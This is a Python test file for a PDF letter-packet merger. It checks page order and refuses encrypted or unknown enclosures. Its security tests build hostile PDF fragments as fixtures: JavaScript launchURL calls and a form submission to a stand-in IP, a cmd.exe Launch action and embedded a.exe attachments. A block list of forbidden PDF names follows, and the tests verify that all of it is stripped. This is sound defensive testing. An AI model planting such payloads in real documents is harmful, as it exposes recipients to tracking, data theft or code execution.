"""The final packet: letter + enclosures (PDF, JPEG, PNG) merged in order."""

import io

import pdfplumber
import pytest
from PIL import Image
from pypdf import PdfReader, PdfWriter

from letters.html import STATIC_DIR, render_letter_html
from letters.render import PacketError, merge_pdfs, render_pdf
from tests.letters.samples import dispute


def image_bytes(fmt: str, size=(1600, 1200), mode="RGB") -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size, "white" if mode == "RGB" else (255, 0, 0, 128)).save(buffer, fmt)
    return buffer.getvalue()


def enclosure_pdf(pages: int, label: str) -> bytes:
    body = "".join(f'<p style="break-after: page">{label} page {i + 1}</p>' for i in range(pages))
    return render_pdf(f"<html><body>{body}</body></html>", base_dir=STATIC_DIR, timeout_s=30)


def page_count(pdf: bytes) -> int:
    return len(PdfReader(io.BytesIO(pdf)).pages)


def test_packet_pages_are_letter_plus_enclosures_in_order():
    letter = render_pdf(render_letter_html(dispute()), base_dir=STATIC_DIR, timeout_s=30)
    statement = enclosure_pdf(2, "BANK-STATEMENT")
    parts = [letter, statement, image_bytes("JPEG"), image_bytes("PNG", (500, 2400), "RGBA")]
    packet = merge_pdfs(parts)
    letter_pages = page_count(letter)
    assert page_count(packet) == letter_pages + 2 + 1 + 1
    with pdfplumber.open(io.BytesIO(packet)) as doc:
        assert "CP14" in doc.pages[0].extract_text()
        assert "BANK-STATEMENT page 1" in doc.pages[letter_pages].extract_text()
        assert "BANK-STATEMENT page 2" in doc.pages[letter_pages + 1].extract_text()
        for image_page in doc.pages[letter_pages + 2 :]:
            assert (round(image_page.width), round(image_page.height)) == (612, 792)
            assert len(image_page.images) == 1
            img = image_page.images[0]
            assert img["x0"] >= 35 and img["x1"] <= 577 and img["top"] >= 35


def test_content_decides_the_type_not_the_name():
    with pytest.raises(PacketError):
        merge_pdfs([b"GIF89a..."])
    with pytest.raises(PacketError):
        merge_pdfs([])


def test_encrypted_enclosures_are_refused():
    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    writer.encrypt("secret")
    buffer = io.BytesIO()
    writer.write(buffer)
    with pytest.raises(PacketError, match="encrypted"):
        merge_pdfs([buffer.getvalue()])


# -- active content never reaches the packet --------------------------------------------------

JS = b"<< /S /JavaScript /JS (app.launchURL('http://198.51.100.9/x', true);) >>"
ACTIVE = {
    # kind: (catalog entries, page entries)
    "open_action_javascript": (b"/OpenAction " + JS, b""),
    "document_additional_actions": (b"/AA << /WC " + JS + b" /DP " + JS + b" >>", b""),
    "named_javascript": (b"/Names << /JavaScript << /Names [(go) " + JS + b"] >> >>", b""),
    "embedded_files": (
        b"/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) "
        b"/EF << /F << /Type /EmbeddedFile /Length 2 >> >> >>] >> >>",
        b"",
    ),
    "page_open_action": (b"", b"/AA << /O " + JS + b" /C " + JS + b" >>"),
    "launch_link": (
        b"",
        b"/Annots [<< /Type /Annot /Subtype /Link /Rect [72 72 300 100] "
        b"/A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>]",
    ),
    "uri_link": (
        b"",
        b"/Annots [<< /Type /Annot /Subtype /Link /Rect [72 72 300 100] "
        b"/A << /S /URI /URI (http://198.51.100.9/track) >> >>]",
    ),
    "javascript_link": (
        b"",
        b"/Annots [<< /Type /Annot /Subtype /Link /Rect [72 72 300 100] /A " + JS + b" >>]",
    ),
    "form_field_with_script": (
        b"/AcroForm << /Fields [] /NeedAppearances true >>",
        b"/Annots [<< /Type /Annot /Subtype /Widget /FT /Tx /T (x) /Rect [72 72 300 100] "
        b"/AA << /K " + JS + b" /F " + JS + b" >> >>]",
    ),
    "submit_form": (
        b"",
        b"/Annots [<< /Type /Annot /Subtype /Link /Rect [72 72 300 100] "
        b"/A << /S /SubmitForm /F << /FS /URL /F (http://198.51.100.9/steal) >> >> >>]",
    ),
    "file_attachment_annotation": (
        b"",
        b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [72 72 90 90] /FS "
        b"<< /Type /Filespec /F (a.exe) /EF << /F << /Type /EmbeddedFile /Length 2 >> >> >> >>]",
    ),
}
FORBIDDEN_NAMES = {
    "/JS", "/JavaScript", "/OpenAction", "/AA", "/Launch", "/URI", "/SubmitForm",
    "/ImportData", "/GoToR", "/GoToE", "/EmbeddedFiles", "/EmbeddedFile", "/FileAttachment",
    "/AcroForm", "/RichMedia",
}  # fmt: skip


def _names_in(pdf: bytes) -> set[str]:
    """Every dictionary key and name value reachable from the packet's trailer."""
    from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject, NameObject

    reader = PdfReader(io.BytesIO(pdf))
    found: set[str] = set()
    seen: set[tuple[int, int]] = set()
    stack = [reader.trailer]
    while stack:
        obj = stack.pop()
        if isinstance(obj, IndirectObject):
            if (obj.idnum, obj.generation) in seen:
                continue
            seen.add((obj.idnum, obj.generation))
            stack.append(obj.get_object())
        elif isinstance(obj, DictionaryObject):
            for key, value in obj.items():
                found.add(str(key))
                stack.append(value)
        elif isinstance(obj, ArrayObject):
            stack.extend(obj)
        elif isinstance(obj, NameObject):
            found.add(str(obj))
    return found


@pytest.mark.parametrize("kind", ACTIVE, ids=str)
def test_active_content_in_an_enclosure_is_stripped_from_the_packet(kind):
    from tests.security.hostile import text_pdf

    catalog, page = ACTIVE[kind]
    enclosure = text_pdf(["ENCLOSED BANK STATEMENT"], catalog_extra=catalog, page_extra=page)
    assert FORBIDDEN_NAMES & _names_in(enclosure)  # the enclosure does carry it
    letter = render_pdf(render_letter_html(dispute()), base_dir=STATIC_DIR, timeout_s=30)
    packet = merge_pdfs([letter, enclosure])
    assert FORBIDDEN_NAMES & _names_in(packet) == set()
    for marker in (b"JavaScript", b"launchURL", b"cmd.exe", b"198.51.100.9", b"a.exe"):
        assert marker not in packet, marker
    with pdfplumber.open(io.BytesIO(packet)) as doc:
        assert "ENCLOSED BANK STATEMENT" in doc.pages[-1].extract_text()


def test_removed_actions_are_not_left_in_the_file_as_orphan_objects():
    """Annotations and actions as objects of their own (the usual shape): removing the
    references is not enough, the objects must not be written either."""
    from tests.security.hostile import FONT, _stream, _text, assemble

    enclosure = assemble(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> /Annots [6 0 R] /AA << /O 7 0 R >> >>",
            _stream(_text(["ENCLOSED CANCELED CHECK"])),
            FONT,
            b"<< /Type /Annot /Subtype /Link /Rect [72 72 300 100] /A 7 0 R >>",
            b"<< /S /JavaScript /JS (app.launchURL('http://198.51.100.9/orphan');) >>",
        ]
    )
    packet = merge_pdfs([enclosure])
    assert b"198.51.100.9" not in packet and b"JavaScript" not in packet
    assert FORBIDDEN_NAMES & _names_in(packet) == set()
    with pdfplumber.open(io.BytesIO(packet)) as doc:
        assert "ENCLOSED CANCELED CHECK" in doc.pages[0].extract_text()
